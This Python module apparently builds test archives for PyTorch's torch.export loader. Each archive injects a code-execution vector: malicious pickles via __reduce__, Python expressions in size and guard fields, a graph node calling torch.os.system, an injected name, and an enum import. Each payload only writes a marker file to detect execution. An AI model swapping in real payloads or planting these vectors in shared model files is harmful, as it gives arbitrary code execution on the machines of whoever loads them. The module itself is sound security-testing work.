"""Archives of torch.export that run code while PyTorch loads them or calls what it loaded: each writes a file."""

import io
import json
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

Members = dict[str, bytes]
PROGRAM, WEIGHTS, CONSTANTS = (
    *("models/model.json", "data/weights/model_weights_config.json"),
    "data/constants/model_constants_config.json",
)


class Spy:
    """Pickled, it writes a file when it is read."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        return Path.write_text, (self.path, "was here")


def read(archive: bytes) -> Members:
    """Return the members of an archive, by name below its one folder."""
    with zipfile.ZipFile(io.BytesIO(archive)) as file:
        return {name.partition("/")[2]: file.read(name) for name in file.namelist()}


def write(members: Members) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as file:
        for name, held in members.items():
            file.writestr(f"net/{name}", held)
    return content.getvalue()


def edit(members: Members, name: str, change: Callable[[Any], None]) -> Members:
    """Return members of which one, that is JSON, is changed."""
    held = json.loads(members[name])
    change(held)
    return {**members, name: json.dumps(held).encode()}


def code(marker: Path) -> str:
    return f"__import__('pathlib').Path({str(marker)!r}).write_text('was here')"


def unpickled_sample_inputs(members: Members, marker: Path) -> Members:
    import torch

    content = io.BytesIO()
    torch.save((Spy(marker),), content)
    return {**members, "data/sample_inputs/model.pt": content.getvalue()}


def unpickled_weight(members: Members, marker: Path) -> Members:
    import torch

    content = io.BytesIO()
    torch.save(Spy(marker), content)

    def change(held: Any) -> None:
        held["config"]["conv.weight"].update(use_pickle=True, path_name="weight_99")

    return {**edit(members, WEIGHTS, change), "data/weights/weight_99": content.getvalue()}


def unpickled_constant(members: Members, marker: Path) -> Members:
    def change(held: Any) -> None:
        held["config"]["spy"] = {
            "path_name": "opaque_obj_0",
            "is_param": False,
            "use_pickle": True,
            "tensor_meta": None,
        }

    return {**edit(members, CONSTANTS, change), "data/constants/opaque_obj_0": pickle.dumps(Spy(marker))}


def evaluated_size(members: Members, marker: Path) -> Members:
    def change(held: Any) -> None:
        sizes = held["graph_module"]["graph"]["tensor_values"]["x"]["sizes"]
        sizes[0] = {"as_expr": {"expr_str": code(marker), "hint": None}}

    return edit(members, PROGRAM, change)


def evaluated_guard(members: Members, marker: Path) -> Members:
    return edit(members, PROGRAM, lambda held: held["guards_code"].append(code(marker)))


def called_operator(members: Members, marker: Path) -> Members:
    def change(held: Any) -> None:
        node = held["graph_module"]["graph"]["nodes"][-1]
        argument = {"name": "", "arg": {"as_string": f"touch {marker}"}, "kind": 1}
        node.update(target="torch.os.system", inputs=[argument])

    return edit(members, PROGRAM, change)


def executed_name(members: Members, marker: Path) -> Members:
    name = json.dumps(f"x={code(marker)}").encode()
    return {**members, PROGRAM: members[PROGRAM].replace(b'"x"', name)}


def imported_enumeration(members: Members, _marker: Path) -> Members:
    def change(held: Any) -> None:
        signature = held["graph_module"]["module_call_graph"][0]["signature"]
        tree = json.loads(signature["in_spec"])
        tree[1]["children_spec"][1]["context"] = json.dumps([{"__enum__": True, "fqn": "evil:E", "name": "A"}])
        signature["in_spec"] = json.dumps(tree)

    return edit(members, PROGRAM, change)


ATTACKS = {
    attack.__name__: attack
    for attack in (
        *(unpickled_sample_inputs, unpickled_weight, unpickled_constant, evaluated_size, evaluated_guard),
        *(called_operator, executed_name, imported_enumeration),
    )
}
